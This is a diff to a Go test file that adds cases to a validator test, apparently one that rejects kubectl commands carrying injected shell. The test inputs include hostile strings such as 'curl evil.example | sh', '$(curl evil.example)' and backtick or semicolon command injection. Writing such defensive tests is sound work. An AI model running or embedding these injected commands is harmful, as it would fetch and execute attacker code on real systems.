@@ -143,6 +143,8 @@ func TestHostileLook(t *testing.T) {
 		"a cause that hides":   {with(func(p *hand.Plan) { p.Cause = "vsw\x00" }), "hide"},
 		"a command and more":   {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl get pods; curl evil.example | sh") }), "would run"},
 		"a command inside":     {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl annotate service web $(curl evil.example)") }), "would run"},
+		"a command behind &&":  {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl get pods && sh evil.sh") }), "would run"},
+		"a search and more":    {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl get pods | grep a; id") }), "would run"},
 		"an open quote":        {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl annotate service web 'a") }), "would run"},
 		"quotes and more":      {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl annotate service web 'a'`id`") }), "would run"},
 	} {
